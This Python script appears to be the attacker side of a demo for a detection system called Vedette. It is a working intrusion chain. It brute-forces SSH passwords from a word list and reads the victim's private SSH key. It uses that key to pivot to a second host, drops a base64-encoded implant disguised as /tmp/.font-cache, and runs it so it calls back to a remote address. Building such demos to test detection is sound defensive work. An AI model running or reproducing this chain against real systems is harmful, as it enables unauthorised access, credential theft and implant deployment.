"""The demo's attacker: runs on host a, has nothing but the ssh client, a word list and a file.

Standard library only, since it is copied to the host and run there as an ordinary user. What it
does is printed step by step, one JSON object a line: {"step": ..., "host": ..., "text": ...}.

Nothing here tells Vedette anything: what is recognised comes from the kernels' view of the hosts.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

ASKPASS = "#!/bin/sh\nprintf '%s\\n' \"$GUESS\"\n"


class AttackError(Exception):
    """The attack did not get where it wanted; the message has what the shell said."""


pause_s = 0.0


def say(step: str, host: str, text: str) -> None:
    """Report a step to whoever watches, and give them time to."""
    print(json.dumps({"step": step, "host": host, "text": text}), flush=True)
    time.sleep(pause_s)


SSH_CONFIG = """\
StrictHostKeyChecking accept-new
NumberOfPasswordPrompts 1
LogLevel ERROR
ConnectTimeout 10
"""


class Session:
    """A shell at the other end of ssh -tt, driven as a person would: line in, answer out."""

    def __init__(self, target: str, password: str, askpass: Path) -> None:
        environment = os.environ | {
            "SSH_ASKPASS": str(askpass),
            "SSH_ASKPASS_REQUIRE": "force",
            "GUESS": password,
        }
        self._ssh = subprocess.Popen(
            ["ssh", "-tt", target],
            env=environment,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        self._count = 0

    def opened(self) -> bool:
        """Say whether the password was right."""
        try:
            self.line("export PS1= PS2=; stty -echo")
        except AttackError:
            self.close()
            return False
        return True

    def line(self, command: str, check: bool = True) -> str:
        """Run one command line in the shell and return what it printed.

        Raises AttackError where the shell has gone, or where check is set and the command fails.
        """
        self.send(command)
        return self.answer(check)

    def send(self, command: str) -> None:
        """Type a line."""
        assert self._ssh.stdin is not None
        try:
            self._ssh.stdin.write(command.encode() + b"\n")
            self._ssh.stdin.flush()
        except BrokenPipeError:
            raise AttackError("the session is closed") from None

    def answer(self, check: bool = True) -> str:
        """Wait until the shell has done what was typed so far; return what it printed."""
        assert self._ssh.stdout is not None
        self._count += 1
        # printf joins the words, so the echo of this line is not taken for its answer.
        self.send(f"printf '\\n%s%s %s\\n' do ne{self._count} $?")
        mark = re.compile(rb"\r?\ndone%d ([0-9]+)\r?\n" % self._count)
        seen = b""
        while (found := mark.search(seen)) is None:
            part = os.read(self._ssh.stdout.fileno(), 65536)
            if not part:
                raise AttackError(seen.decode(errors="replace").strip() or "the session ended")
            seen += part
        text = seen[: found.start()].decode(errors="replace").replace("\r\n", "\n").strip()
        if check and found[1] != b"0":
            raise AttackError(f"{text or 'no answer'} (status {found[1].decode()})")
        return text

    def close(self) -> None:
        """Wait until the other end has hung up. Raises AttackError where it does not."""
        try:
            self._ssh.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            self._ssh.kill()
            self._ssh.communicate()
            raise AttackError("the session does not end") from None


def guess(target: str, words: list[str], askpass: Path) -> Session:
    """Try passwords until one opens a session. Raises AttackError where none does."""
    for number, word in enumerate(words, 1):
        session = Session(target, word, askpass)
        if session.opened():
            say("entry", "b", f"password {number} of {len(words)} fits: logged in as {target}")
            return session
        say("knock", "b", f"password {number} of {len(words)} for {target}: refused")
    raise AttackError(f"no password fits {target}")


def attack(arguments: argparse.Namespace) -> None:
    """Play the whole attack."""
    home = Path.home()
    askpass = home / "askpass"
    askpass.write_text(ASKPASS)
    askpass.chmod(0o700)
    (home / ".ssh").mkdir(mode=0o700, exist_ok=True)
    (home / ".ssh/config").write_text(SSH_CONFIG)
    words = (home / "words").read_text().split()
    session = guess(arguments.target, words, askpass)

    key = session.line("cat .ssh/id_ed25519")
    if "PRIVATE KEY" not in key:
        raise AttackError(f"no private key in {key!r}")
    say("credential", "b", "read the private key .ssh/id_ed25519")

    # The shell on b ends with the session on c: what is typed ahead while one shell gives way to
    # another may reach either.
    trust = "-o StrictHostKeyChecking=accept-new"
    session.send(f"ssh -i .ssh/id_ed25519 {trust} {arguments.next}; exit")
    session.line("export PS1= PS2=; stty -echo")
    where = session.line("hostname")
    say("pivot", where, f"from b to {arguments.next} with that key")

    implant = base64.encodebytes((home / "implant").read_bytes()).decode()
    path = "/tmp/.font-cache"
    session.line(f"base64 -d > {path} <<'END'\n{implant}END")
    session.line(f"chmod 700 {path}")
    say("drop", where, f"a program dropped as {path}")
    address, _, port = arguments.callback.partition(":")
    session.line(f"{path} {address} {port}")
    say("execution", where, f"{path} has run and called {arguments.callback}")

    session.send("exit")
    session.close()
    say("end", "a", "logged out of both hosts")


def main() -> int:
    """Command line: attack.py [--pause SECONDS] USER@HOST USER@HOST ADDRESS:PORT"""
    global pause_s
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", help="where to guess passwords: user@host")
    parser.add_argument("next", help="where to go from there with the key that is found")
    parser.add_argument("callback", help="address:port that the dropped program calls")
    parser.add_argument("--pause", type=float, default=0.0, help="seconds to wait after each step")
    arguments = parser.parse_args()
    pause_s = arguments.pause
    try:
        attack(arguments)
    except (AttackError, OSError) as error:
        print(f"attack: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
